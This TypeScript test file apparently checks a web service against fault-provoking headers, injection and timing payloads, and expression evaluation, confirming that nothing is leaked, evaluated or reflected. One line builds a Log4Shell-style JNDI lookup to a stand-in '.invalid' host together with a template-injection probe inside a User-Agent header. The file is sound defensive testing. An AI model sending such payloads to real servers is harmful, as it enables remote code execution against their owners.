import {
  delaysOf,
  evaluations,
  INJECTED_SECONDS,
  injections,
  MARK,
  PRODUCT,
  provocations,
} from '../../../fixtures/wire/odd-values.js';
import { claim } from '../../../harness/model/scenario.js';
import {
  nothingIsEvaluated,
  nothingIsReflected,
  payloadCausesNoDelay,
  payloadFindsNobody,
} from '../rules/injected-input.js';
import { nothingOfTheInsideIsTold, oddInputIsAnsweredSafely } from '../rules/inside.js';
import { wireRow } from './wire-row.js';

const floodOf = (count: number, length: number): [string, string][] =>
  Array.from({ length: count }, (_, index) => [`X-Assay-${index}`, 'a'.repeat(length)]);

/** More headers than usual, and more bytes of them than servers of the day take by default. A closed door is no fault. */
const FLOODS = { many: floodOf(120, 8), large: floodOf(160, 200) } as const;

export const faultsTellNothing = wireRow({
  id: 'SC-SEC-026',
  title: 'input that provokes faults gets an answer that tells nothing of the inside',
  byRawClient: true,
  class: 'intrusive',
  drive: async ({ ask, person, known }) => {
    for (const { id, asked } of provocations) await ask(`odd[${id}]`, asked(person('N01')));
    for (const [name, flood] of Object.entries(FLOODS))
      await ask(`flood[${name}]`, { ...known, headers: [...known.headers, ...flood], raw: {} });
  },
  claims: [
    claim('DES-ERR-009', 'odd[*]', oddInputIsAnsweredSafely),
    claim('DES-ERR-009', 'flood[*]', nothingOfTheInsideIsTold),
  ],
});

export const payloadsAreOnlyText = wireRow({
  id: 'SC-SEC-033',
  title: 'a payload for a query, an expression or a template is only text',
  class: 'intrusive',
  takes: 'seconds',
  drive: async ({ ask, person, unknown }) => {
    for (const { id, asked } of injections) await ask(`payload[${id}]`, asked(person('N01')));
    await ask('plain[unspoilt]', unknown);
    for (const { id, asked } of delaysOf(0)) await ask(`plain[${id}]`, asked(person('N01')));
    for (const { id, asked } of delaysOf(INJECTED_SECONDS)) {
      await ask(`wait[${id}-first]`, asked(person('N01')));
      await ask(`wait[${id}-second]`, asked(person('N01')));
    }
  },
  claims: [
    claim('DES-SEC-012', 'payload[*]', payloadFindsNobody),
    claim('DES-SEC-012', 'wait[*]', payloadFindsNobody),
    claim('DES-SEC-012', 'scenario', payloadCausesNoDelay('wait[*]', 'plain[*]', INJECTED_SECONDS)),
  ],
});

export const nothingSentIsActedOn = wireRow({
  id: 'SC-SEC-036',
  title: 'line breaks, escapes and expressions are neither evaluated nor reflected',
  class: 'intrusive',
  drive: async ({ ask, person, known }) => {
    for (const { id, asked } of evaluations) await ask(`value[${id}]`, asked(person('N01')));
    const agent = `\${jndi:ldap://${MARK}.invalid/a} {{7131*9377}}`;
    await ask('agent', { ...known, headers: [...known.headers, ['User-Agent', agent]] });
  },
  claims: [
    claim('DES-AUD-017', 'value[*]', nothingIsEvaluated(PRODUCT)),
    claim('DES-AUD-017', 'agent', nothingIsEvaluated(PRODUCT)),
    claim('DES-ERR-010', 'value[*]', nothingIsReflected(MARK)),
  ],
});
